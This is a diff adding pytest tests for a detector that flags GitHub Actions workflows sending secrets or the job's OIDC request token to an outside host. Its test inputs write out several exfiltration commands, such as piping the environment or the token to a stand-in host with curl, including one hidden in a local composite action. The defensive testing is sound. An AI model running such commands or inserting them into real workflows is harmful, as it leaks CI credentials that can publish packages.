@@ -53,6 +53,46 @@ def test_a_secret_on_its_way_out_is_seen(script: str, secrets: str) -> None:
     assert said.partition(" sends ")[2] == f"{secrets} to {HOST} (not a known registry)"
 
 
+OIDC_STEP = "on: {push: {branches: [main]}}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    permissions: {id-token: LEVEL}\n    steps:\n"
+
+
+def sent_by(steps: str, level: str, **files: str) -> list[str]:
+    """What `secret-sent-away` says of a job without any secret, whose permissions have this level of `id-token`."""
+    workflow = {".github/workflows/x.yml": OIDC_STEP.replace("LEVEL", level) + steps}
+    noticed = evaluate_change(read_change("", {}, {**workflow, **files}), Policy())
+    return [finding.message for each in noticed if each.check.name == "secret-sent-away" for finding in each.findings]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "env | curl -d @- https://collect.example.org",
+        'curl -d "$(printenv | base64)" https://collect.example.org',
+        "curl https://collect.example.org/$ACTIONS_ID_TOKEN_REQUEST_TOKEN",
+        'T=$(curl -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=pypi")\n          curl -d "$T" https://collect.example.org',
+    ],
+)
+def test_the_token_that_publishes_without_a_secret_is_seen_on_its_way_out(script: str) -> None:
+    step = f"      - run: |\n          {script}\n"
+
+    (said,) = sent_by(step, "write")
+    assert said == f"curl sends the token that requests the job's OIDC token to {HOST} (not a known registry)"
+    assert sent_by(step, "none") == []
+
+
+def test_a_local_action_that_sends_it_away_is_seen() -> None:
+    action = "runs:\n  using: composite\n  steps:\n    - {shell: bash, run: 'env | curl -d @- https://collect.example.org'}\n"
+
+    (said,) = sent_by("      - uses: ./send\n", "write", **{"send/action.yml": action})
+    assert HOST in said
+
+
+def test_asking_github_for_the_token_sends_nothing_away() -> None:
+    ask = 'curl -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=pypi" > token.json'
+
+    assert sent_by(f"      - run: |\n          {ask}\n", "write") == []
+
+
 @pytest.mark.parametrize("place", ['"$(cat place)"', "$SOMEWHERE"])
 def test_a_place_that_the_script_works_out_is_unknown(place: str) -> None:
     assert findings_in(f'curl -d "$TOKEN" {place}')["secret-sent-away"] == [
